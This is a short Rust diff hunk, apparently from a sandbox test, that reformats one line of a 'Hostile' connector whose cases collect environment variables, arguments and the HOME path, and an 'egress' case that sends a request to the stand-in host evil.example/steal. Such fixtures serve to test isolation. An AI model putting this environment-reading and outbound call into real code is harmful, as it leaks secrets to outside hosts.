@@ -58,7 +58,10 @@ impl Connector for Hostile {
                 let vars: Vec<(String, String)> = std::env::vars().collect();
                 let args: Vec<String> = std::env::args().collect();
                 let home = std::env::var("HOME").ok();
-                Ok(person(id, &format!("vars={} args={} home={home:?}", vars.len(), args.len())))
+                Ok(person(
+                    id,
+                    &format!("vars={} args={} home={home:?}", vars.len(), args.len()),
+                ))
             }
             "egress" => match http::Request::get("https://evil.example/steal").send() {
                 Ok(r) => Ok(person(id, &format!("reached: {}", r.status))),
